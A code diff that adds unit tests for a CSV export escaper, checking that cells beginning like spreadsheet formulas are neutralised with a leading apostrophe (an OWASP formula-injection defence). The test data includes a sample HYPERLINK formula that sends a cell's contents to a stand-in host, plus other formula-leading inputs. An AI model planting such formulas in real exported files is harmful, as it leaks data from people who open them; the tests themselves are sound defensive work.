@@ -7,6 +7,7 @@ import { join } from 'node:path';
 import { MockActivityEnvironment } from '@temporalio/testing';
 import { DefaultLogger } from '@temporalio/worker';
 import { createCloseoutActivities } from '../../activities/closeout/closeout-activities';
+import { csvField, csvRecord } from '../../activities/closeout/feedback-records';
 import { createPlanActivities, interventionPlanId } from '../../activities/planning/plan-activities';
 import { openHarness, uniqueCampaignId, type Harness } from '../support/harness';
 import { TEST_RUN_DIR } from '../support/stack-file';
@@ -241,5 +242,31 @@ describe('buildCampaignReport', () => {
     const report = await run(closeout.buildCampaignReport, { campaignId, status: 'cancelled' });
     expect(report).toMatchObject({ status: 'cancelled', planStatus: null, interventionsByProgram: {} });
     expect(report.feedbackFiles).toEqual([join(feedbackDir(campaignId), 'report.json')]);
+  });
+});
+
+describe('feedback CSV cells (spreadsheet formula injection, OWASP)', () => {
+  const columns: readonly [string, (r: { nama: string; selisih: number; padan: boolean }) => string | number | boolean][] = [
+    ['nama', (r) => r.nama],
+    ['selisih', (r) => r.selisih],
+    ['padan', (r) => r.padan],
+  ];
+
+  it.each([
+    ['=HYPERLINK("http://x.test/?d="&A1,"klik")', `"'=HYPERLINK(""http://x.test/?d=""&A1,""klik"")"`],
+    ['+62 812 0000', "'+62 812 0000"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\tcmd', "'\tcmd"],
+    ['\r=1', `"'\r=1"`],
+  ])('when a text cell starts like a formula (%j), then it is written as text behind an apostrophe', (text, cell) => {
+    expect(csvField(text)).toBe(cell);
+  });
+
+  it('when a cell is ordinary text, a negative number or a boolean, then it is written unchanged', () => {
+    expect(csvField('Siti Aminah')).toBe('Siti Aminah');
+    expect(csvField('Jl. A=B')).toBe('Jl. A=B'); // only the first character starts a formula
+    expect(csvField(-3)).toBe('-3');
+    expect(csvRecord(columns, { nama: '-Budi', selisih: -1.5, padan: false })).toBe("'-Budi,-1.5,false\r\n");
   });
 });
